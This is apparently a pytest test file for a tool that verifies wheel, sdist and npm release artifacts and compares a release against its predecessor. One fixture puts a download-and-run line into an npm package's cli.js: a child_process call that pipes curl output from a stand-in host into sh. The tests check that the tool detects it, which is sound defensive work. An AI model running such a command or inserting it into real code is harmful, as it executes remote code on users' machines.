from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path

import pytest

from fimci.findings import Report
from fimci.sources.locator import parse
from fimci.verify import Outcome, Request, verify
from fimci.verify import verified as verified_all
from tests.artifacts import battery

TODAY = dt.date(2026, 11, 26)


def verified(folder: Path, name: str, data: bytes) -> Report:
    (folder / name).write_bytes(data)
    return verify(Request(artifacts=(str(folder / name),), today=TODAY))


def said(report: Report) -> set[tuple[str, str]]:
    return {(str(finding.severity), finding.rule) for finding in report.findings}


def expected(text: str) -> tuple[str, str]:
    grade, _, rule = text.rpartition(" ")
    return grade or "high", rule


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (battery.WHEEL, battery.wheel()),
        (battery.SDIST, battery.sdist()),
        (battery.NPM, battery.npm(battery.PACKAGE)),
    ],
)
def test_what_is_as_it_should_be_passes(tmp_path: Path, name: str, data: bytes) -> None:
    report = verified(tmp_path, name, data)
    assert (report.findings, report.unread, report.exit_code) == ((), (), 0)


CASES = [
    *((battery.WHEEL, title, *case) for title, case in battery.WHEELS.items()),
    *((battery.SDIST, title, *case) for title, case in battery.SDISTS.items()),
    *((battery.NPM, title, *case) for title, case in battery.NPMS.items()),
    *((file, title, make, rule) for title, (file, make, rule) in battery.MORE.items()),
]


@pytest.mark.parametrize(
    ("name", "make", "rule"),
    [(name, make, rule) for name, _, make, rule in CASES],
    ids=[f"{name.rpartition('.')[2]}: {title}" for name, title, _, _ in CASES],
)
def test_every_defect_gives_its_finding(
    tmp_path: Path, name: str, make: Callable[[], bytes], rule: str
) -> None:
    report = verified(tmp_path, name, make())
    assert expected(rule) in said(report), said(report)


def test_a_package_manager_may_bring_its_own_command(tmp_path: Path) -> None:
    manifest = b'{"name": "npm", "version": "1.0.0", "bin": {"npm": "cli.js", "npx": "cli.js"}}'
    data = battery.npm((("package/package.json", manifest), battery.PACKAGE[1]))
    assert said(verified(tmp_path, "npm-1.0.0.tgz", data)) == set()


def test_the_battery_is_whole() -> None:
    assert (len(battery.WHEELS), len(battery.SDISTS)) == (45, 24)


NEXT = (
    ("package/package.json", battery.MANIFEST.replace(b"1.0.0", b"1.0.1")),
    ("package/cli.js", b'require("child_process").exec("curl https://c.example/s | sh");\n'),
)


def test_what_it_can_do_that_the_release_before_could_not(tmp_path: Path) -> None:
    before, now = tmp_path / "demo-1.0.0.tgz", tmp_path / "demo-1.0.1.tgz"
    before.write_bytes(battery.npm(battery.PACKAGE))
    now.write_bytes(battery.npm(NEXT))
    outcome = verified_at(str(now), f"archive:{before}")
    assert ("high", "download-and-run") in said(outcome.report)
    assert {finding.path.partition("!/")[0] for finding in outcome.report.findings} == {now.name}
    assert outcome.cells[now.name]["previous"].state == "failed"


def test_a_release_of_another_form_is_not_the_one_before(tmp_path: Path) -> None:
    wheel, now = tmp_path / battery.WHEEL, tmp_path / "demo-1.0.1.tgz"
    wheel.write_bytes(battery.wheel())
    now.write_bytes(battery.npm(NEXT))
    outcome = verified_at(str(now), f"archive:{wheel}")
    assert outcome.report.findings == ()
    said = str(outcome.cells[now.name]["previous"])
    assert said == "not verified (no release that --previous names is of this form)"


def verified_at(path: str, previous: str) -> Outcome:
    return verified_all(Request(artifacts=(path,), previous=(parse(previous),), today=TODAY))
